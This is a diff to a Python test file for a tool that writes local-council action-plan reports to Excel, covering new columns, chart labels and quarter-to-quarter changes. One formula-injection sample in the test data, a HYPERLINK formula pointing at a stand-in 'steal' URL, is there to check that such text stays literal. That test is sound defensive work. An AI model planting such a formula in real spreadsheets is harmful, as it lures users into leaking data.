@@ -4,16 +4,28 @@ from __future__ import annotations
 
 import csv
 import dataclasses
+import datetime as dt
 import hashlib
 import io
 import re
 import shutil
 import subprocess
 import zipfile
+from xml.etree import ElementTree
 
 import openpyxl
+import pypdf
 import pytest
-from factories import COMPLETED, HOSTILE_TEXT, MINOR, action, listing, make_context
+from factories import (
+    COMPLETED,
+    HOSTILE_TEXT,
+    MINOR,
+    action,
+    digital_inclusion_plan,
+    listing,
+    make_context,
+    with_progress,
+)
 
 from wfs_reports.cli import main
 from wfs_reports.config import load_templates
@@ -21,6 +33,7 @@ from wfs_reports.domain.trend import Trend
 from wfs_reports.render.xlsx import render_xlsx
 from wfs_reports.report.view import Changes
 
+CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
 FORMULA_TEXTS = [
     '=HYPERLINK("http://evil.example/steal?x=1","Click for update")',
     "=1+1",
@@ -62,9 +75,10 @@ def rendered():
 def test_actions_sheet_has_one_row_per_action_in_report_order(rendered):
     context, result = rendered
     sheet = workbook_of(result.data)["Actions"]
-    assert header(sheet) == ["Recommendation", "Action", "Owner(s)", "Completion Date",
-                             "Due date(s)", "Status", "Comments", "RAG Status", "Why",
-                             "Workbook row"]
+    assert header(sheet) == ["Recommendation", "Recommendation text", "Action", "Owner(s)",
+                             "Completion Date", "Due date(s)", "Status", "Comments",
+                             "RAG Override", "Override Reason", "Last Updated", "RAG Status",
+                             "Why", "Workbook row"]
     actions = [a for r in context.recommendations for a in r.actions]
     assert sheet.max_row == 1 + len(actions)
     assert column(sheet, "Action") == [a.action for a in actions]
@@ -75,6 +89,31 @@ def test_actions_sheet_has_one_row_per_action_in_report_order(rendered):
     assert column(sheet, "Completion Date")[0] == "Stage 1: Q4 2023-24 Stage 2: TBC"
     assert column(sheet, "Due date(s)")[0] == "Stage 1: 31/03/2024; Stage 2: TBC"
     assert column(sheet, "Due date(s)")[1].date().isoformat() == "2024-03-31"
+    assert column(sheet, "Recommendation text") == [r.text for r in context.recommendations
+                                                    for _a in r.actions]
+
+
+def test_a_not_applicable_action_is_due_never_not_tbc(rendered):
+    context, result = rendered
+    sheet = workbook_of(result.data)["Actions"]
+    rows = dict(zip(column(sheet, "Action"), column(sheet, "Due date(s)"), strict=True))
+    assert rows["Not applicable for the ICB"] == "Not applicable"
+    # A stage still to be dated in an action that is going ahead is TBC, as written.
+    assert rows["Stage 1: develop a core data set.\nSecond line & more"].endswith("Stage 2: TBC")
+
+
+def test_the_officers_override_reason_and_last_update_are_kept():
+    rec = make_context().recommendations[0]
+    overridden = dataclasses.replace(rec, actions=(
+        dataclasses.replace(rec.actions[1], override="missed", override_reason="Funding lost",
+                            last_updated="2023-10-02"),
+        dataclasses.replace(rec.actions[0], override=None, last_updated=None)))
+    sheet = workbook_of(render_xlsx(make_context([overridden])).data)["Actions"]
+    assert column(sheet, "RAG Override") == ["Missed target requires action", None]
+    assert column(sheet, "Override Reason") == ["Funding lost", None]
+    updated = column(sheet, "Last Updated")
+    assert updated[0].date().isoformat() == "2023-10-02" and updated[1] is None
+    assert sheet.cell(row=2, column=header(sheet).index("Last Updated") + 1).is_date
 
 
 def test_rag_cells_are_filled_and_lettered_in_the_rules_colours(rendered):
@@ -99,8 +138,8 @@ def test_header_is_frozen_filtered_wrapped_and_sized(rendered):
     assert workbook.sheetnames == ["Actions", "Summary", "Exceptions"]
     sheet = workbook["Actions"]
     assert sheet.freeze_panes == "A2"
-    assert sheet.auto_filter.ref == f"A1:J{sheet.max_row}"
-    assert sheet.column_dimensions["B"].width >= 40  # Action
+    assert sheet.auto_filter.ref == f"A1:N{sheet.max_row}"
+    assert sheet.column_dimensions["C"].width >= 40  # Action
     assert all(cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row)
     assert sheet.row_dimensions[4].height > 15  # the 300-character action wraps
 
@@ -115,8 +154,8 @@ def test_text_is_never_a_formula(rendered):
     assert "<f>" not in xml and "<f " not in xml
     sheet = workbook_of(data)["Actions"]
     assert column(sheet, "Action") == FORMULA_TEXTS
-    assert all(c.data_type == "s" for c in sheet["B"][1:])
-    assert all(c.quotePrefix for c in sheet["B"][1:])
+    assert all(c.data_type == "s" for c in sheet["C"][1:])
+    assert all(c.quotePrefix for c in sheet["C"][1:])
 
 
 def test_hostile_text_is_kept_literally(rendered):
@@ -132,14 +171,14 @@ def test_characters_excel_cannot_hold_are_dropped_with_a_warning_naming_the_cell
                               cells={"comments": "Actions!F2"})
     result = render_xlsx(make_context([dataclasses.replace(rec, actions=(bad,))]))
     sheet = workbook_of(result.data)["Actions"]
-    assert sheet["G2"].value == "Bell and formfeed"
+    assert sheet["H2"].value == "Bell and formfeed"
     # Located at the workbook's cell (F2), where the officer can act; the
-    # report's own cell (G2) named in words, not as if it were the workbook's.
+    # report's own cell (H2) named in words, not as if it were the workbook's.
     assert [(p.kind.value, p.where) for p in result.problems] == [("character_dropped",
                                                                    "Actions!F2")]
     assert result.problems[0].message == (
         "2 character(s) Excel cannot hold (U+0007, U+000C) were left out of the Excel "
-        "report's Actions!G2")
+        "report's Actions!H2")
 
 
 def test_a_worked_out_cell_names_the_action_it_belongs_to():
@@ -148,7 +187,7 @@ def test_a_worked_out_cell_names_the_action_it_belongs_to():
     bad = dataclasses.replace(rec.actions[0], computed_comment="Bell\x07")
     result = render_xlsx(make_context([dataclasses.replace(rec, actions=(bad,))]))
     assert [p.where for p in result.problems] == [""]
-    assert "the Excel report's Actions!I2 (the action on row 2 of the workbook)" in (
+    assert "the Excel report's Actions!M2 (the action on row 2 of the workbook)" in (
         result.problems[0].message)
 
 
@@ -191,6 +230,25 @@ def test_no_exceptions_says_so():
     context = dataclasses.replace(make_context(), exceptions=())
     sheet = workbook_of(render_xlsx(context).data)["Exceptions"]
     assert sheet["A2"].value == "No exceptions."
+
+
+def test_the_charts_labels_are_the_counts_alone():
+    """Each part of a column is labelled with its count only (nothing for nought):
+    a label that also named the report and the RAG overlapped the next one in
+    LibreOffice."""
+    data = render_xlsx(with_progress(make_context())).data
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        chart = ElementTree.fromstring(archive.read("xl/charts/chart1.xml"))
+    labels = chart.findall(f".//{{{CHART}}}ser/{{{CHART}}}dLbls")
+    assert len(labels) == 3  # one per RAG
+    for label in labels:
+        shown = {child.tag.split("}")[1]: child.get("val") for child in label
+                 if child.tag.split("}")[1].startswith("show")}
+        assert shown["showVal"] == "1"
+        assert {k: v for k, v in shown.items() if k != "showVal"} == {
+            "showLegendKey": "0", "showCatName": "0", "showSerName": "0", "showPercent": "0",
+            "showBubbleSize": "0", "showLeaderLines": "0"}
+        assert label.find(f"{{{CHART}}}numFmt").get("formatCode") == "0;-0;;"
 
 
 def test_same_context_gives_the_same_bytes(rendered):
@@ -331,6 +389,139 @@ def test_libreoffice_calc_opens_it_and_keeps_formula_text_as_text(make_workbook,
                  "--quiet"]) == 0
     converted = _to_csv(soffice, out / "WFS Action Plan Update - 2023-11-22.xlsx", tmp_path)
     rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
-    assert rows[0][:3] == ["Recommendation", "Action", "Owner(s)"]
-    assert [row[1] for row in rows[1:]] == FORMULA_TEXTS + [HOSTILE_TEXT]
-    assert not any(re.fullmatch(r"2|Click for update|#\w+[!?]?", row[1]) for row in rows)
+    assert rows[0][:4] == ["Recommendation", "Recommendation text", "Action", "Owner(s)"]
+    assert [row[2] for row in rows[1:]] == FORMULA_TEXTS + [HOSTILE_TEXT]
+    assert not any(re.fullmatch(r"2|Click for update|#\w+[!?]?", row[2]) for row in rows)
+
+
+def test_libreoffice_labels_the_charts_parts_with_their_counts_alone(tmp_path):
+    """Drawn by LibreOffice, a part's label is its count: no report date, RAG name or
+    legend key beside it, which overlapped the next part's label."""
+    soffice = _calc_or_skip(tmp_path)
+    path = tmp_path / "progress.xlsx"
+    path.write_bytes(render_xlsx(with_progress(make_context())).data)
+    subprocess.run(
+        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
+         "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"), str(path)],
+        capture_output=True, timeout=180, check=False)
+    pages = [" ".join(page.extract_text().split())
+             for page in pypdf.PdfReader(tmp_path / "pdf" / "progress.pdf").pages]
+    (chart,) = [text for text in pages if "Actions counted" in text]
+    # LibreOffice joins a label's parts with "; " ("22 Nov 2023; ■ Missed ...; 2").
+    assert ";" not in chart, chart
+
+
+# ---------------------------------------------------------------- a working copy, two quarters
+
+
+VOLUNTEERS = ("Train library volunteers as digital champions, so that every branch library "
+              "has someone on hand on Saturdays to help residents get online")
+
+
+def two_quarters_of_digital_inclusion(tmp_path):
+    """The Digital Inclusion plan at 30 June 2024, then at 30 September 2024 with the
+    laptops lent, the Wi-Fi slipped a quarter, an override and a not-applicable action;
+    returns the September report's xlsx bytes and the plan."""
+    out = tmp_path / "out"
+    june = digital_inclusion_plan(tmp_path / "digital inclusion.xlsx")
+    assert main([str(june), "--out", str(out), "--format", "json", "--quiet"]) == 0
+    september = digital_inclusion_plan(
+        tmp_path / "digital inclusion.xlsx", as_at=dt.date(2024, 9, 30),
+        actions=[
+            action(1, "Install public Wi-Fi in the six branch libraries", "Libraries Manager",
+                   "Q3 2024-25", "In progress", "Five of six branches live",
+                   updated="15/09/2024"),
+            action(1, "Lend 200 refurbished laptops", "Digital Inclusion Lead", "Q4 2024-25",
+                   "Completed", "All 200 lent"),
+            action(2, "Run digital champion training for housing officers",
+                   "Housing Training Lead", "Q1 2024-25", "Completed", "42 officers trained"),
+            action(2, VOLUNTEERS, "Volunteer Lead",
+                   "Q4 2024-25", "In progress", override="Missed target requires action",
+                   reason="The trainer left in August", updated="20/09/2024"),
+            action(2, "Train mobile library staff", "", "N/A", "Not applicable"),
+        ])
+    assert main([str(september), "--out", str(out), "--format", "xlsx", "--quiet"]) == 0
+    (written,) = out.glob("* - 2024-09-30.xlsx")
+    return written, september
+
+
+def rows_of(sheet) -> list[dict]:
+    names = header(sheet)
+    return [dict(zip(names, (c.value for c in row), strict=False))
+            for row in sheet.iter_rows(min_row=2) if row[0].value is not None]
+
+
+def test_a_later_quarter_has_the_changes_since_the_last_report(tmp_path):
+    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
+    changes = workbook_of(written.read_bytes())["Changes since the last report"]
+    assert header(changes) == ["Change", "Recommendation", "Action", "What changed",
+                               "Workbook row"]
+    listed = {(r["Change"], r["Action"]) for r in rows_of(changes) if r["Recommendation"]}
+    assert ("Completed since the last report", "Lend 200 refurbished laptops") in listed
+    assert ("Slipped: due date moved later",
+            "Install public Wi-Fi in the six branch libraries") in listed
+    assert ("New actions", VOLUNTEERS) in listed
+    assert not any(action.endswith("…") for _change, action in listed)  # whole, not cut
+    slipped = next(r for r in rows_of(changes) if r["Change"].startswith("Slipped"))
+    assert "30 September 2024" in slipped["What changed"]  # Q2 2024-25 ...
+    assert "31 December 2024" in slipped["What changed"]  # ... moved to Q3 2024-25
+    assert slipped["Workbook row"] == 2
+    assert any(str(c.value).startswith("Compared with the report as at 30 June 2024")
+               for row in changes.iter_rows() for c in row if c.value)
+
+
+def test_the_first_report_has_no_changes_sheet(tmp_path):
+    plan = digital_inclusion_plan(tmp_path / "digital inclusion.xlsx")
+    assert main([str(plan), "--out", str(tmp_path), "--format", "xlsx", "--quiet"]) == 0
+    (written,) = tmp_path.glob("* - 2024-06-30.xlsx")
+    assert workbook_of(written.read_bytes()).sheetnames == ["Actions", "Summary", "Exceptions"]
+
+
+def test_the_working_copy_keeps_the_officers_columns_and_the_recommendation(tmp_path):
+    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
+    actions = {r["Action"]: r for r in rows_of(workbook_of(written.read_bytes())["Actions"])}
+    volunteers = actions[VOLUNTEERS]
+    assert volunteers["RAG Override"] == "Missed target requires action"
+    assert volunteers["Override Reason"] == "The trainer left in August"
+    assert volunteers["Last Updated"].date() == dt.date(2024, 9, 20)
+    assert volunteers["Recommendation text"] == \
+        "Train front-line staff to help residents use online services"
+    assert actions["Install public Wi-Fi in the six branch libraries"]["Recommendation text"] \
+        == "Give residents without internet access a way online in every library"
+    assert actions["Train mobile library staff"]["Due date(s)"] == "Not applicable"
+    assert actions["Lend 200 refurbished laptops"]["RAG Override"] is None
+
+
+def test_make_report_on_its_own_xlsx_says_in_one_line_it_is_a_report(tmp_path, capsys):
+    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
+    capsys.readouterr()
+    assert main([str(written), "--out", str(tmp_path / "again")]) != 0
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1, err
+    assert "this is a report make-report wrote, not the plan" in err
+    assert "(digital inclusion.xlsx)" in err
+    assert "Traceback" not in err
+
+
+def test_its_own_xlsx_is_known_after_excel_drops_the_properties(tmp_path, capsys):
+    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
+    workbook = openpyxl.load_workbook(written)
+    workbook.properties.description = None
+    resaved = tmp_path / "resaved.xlsx"
+    workbook.save(resaved)
+    capsys.readouterr()
+    assert main([str(resaved), "--out", str(tmp_path / "again")]) != 0
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1, err
+    assert err.endswith("run make-report on the plan workbook it was made from")
+
+
+def test_a_plan_with_summary_and_exceptions_sheets_is_still_a_plan(tmp_path):
+    """An officer's own extra sheets do not make a plan a report."""
+    def extra(workbook):
+        for name in ("Summary", "Exceptions"):
+            workbook.create_sheet(name)
+        workbook.move_sheet("Actions", offset=-workbook.index(workbook["Actions"]))
+    plan = digital_inclusion_plan(tmp_path / "plan.xlsx", customise=extra)
+    assert main([str(plan), "--out", str(tmp_path / "out"), "--format", "json",
+                 "--quiet"]) == 0
